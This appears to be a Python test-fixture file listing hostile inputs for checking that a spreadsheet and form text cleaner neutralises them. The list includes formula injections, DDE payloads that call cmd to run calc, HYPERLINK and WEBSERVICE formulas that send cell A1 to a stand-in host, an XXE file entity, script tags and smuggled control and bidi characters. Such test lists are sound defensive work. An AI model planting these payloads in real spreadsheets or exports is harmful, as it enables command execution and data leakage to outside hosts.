"""What somebody may type to make a program do something with it. `\ue000` stands for a mark that cannot be typed into XML; see `smuggled`."""

from __future__ import annotations

from evalxl.forms.values import clean_text

PAYLOADS: tuple[str, ...] = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "- Tham mưu báo cáo tuần",
    '=HYPERLINK("http://x.example/?"&A1,"mở")',
    '=WEBSERVICE("http://x.example/"&A1)',
    "=cmd|'/C calc'!A0",
    "@cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "=DDE(\"cmd\",\"/C calc\",\"x\")",
    "{=1+1}",
    ";=1+1",
    ",=1+1",
    "xong;=1+1;",
    'xong";=1+1',
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff20SUM(1)",
    "'=1+1",
    '"=1+1"',
    "a\n=1+1",
    "a\n- b\n+ c",
    "%0A=1+1",
    "_x003D_1+1",
    "_x0041__x005F_x0041_",
    "]]><f>1+1</f>",
    "<script>alert(1)</script>",
    "<r>&amp;&#61;_x003D_1+1</r>",
    "&#x3D;1+1",
    "<!ENTITY x SYSTEM 'file:///x'>",
    "http://x.example/a?b=c",
    "file://x.example/share/a.xlsx",
    "mailto:a@x.example",
    "internal:'Kết quả'!A1",
    "external:c:\\a.xlsx",
    "\\\\x.example\\share\\a.xlsx",
    "{found} {0} %s ${x} {{7*7}}",
    "&P &N &F &\"Arial\"&24",
    "@term.quality",
    "TRUE",
    "#REF!",
    "0012",
    "1E5",
    "👩💻🎉 表 e\u0323\u0302",
    "a\u200d\u200bb",
)  # fmt: skip

# Marks that a spreadsheet program writes as `_x001B_`: smuggled into the file, not typed.
SMUGGLED: tuple[str, ...] = (
    "\x1b[31mđỏ\x1b[0m",
    "\x1b]0;x\x07tên",
    "a\x00b",
    "a\x08\x08\x08=1",
    "\t=1+1",
    "\r=1+1",
    "a\vb\fc",
    "\x9b31mđỏ",
    "a\u2028=1+1",
    "a\x85=1+1",
    "\u202e1+1=\u202c",
    "a\u2067=1\u2069",
    "a\ufeff=1+1",
    "\ud800half",
    "a\ufffeb",
)

LONG = "=1+1 " + "dài " * 9_999  # forty thousand characters

EVERY = (*PAYLOADS, *SMUGGLED)


def means(typed: str) -> str:
    """What is booked of a typed text, and what everybody reads from then on."""
    return clean_text(typed.replace("\ud800", "_xD800_"))  # half a character is none: it stays as the file writes it
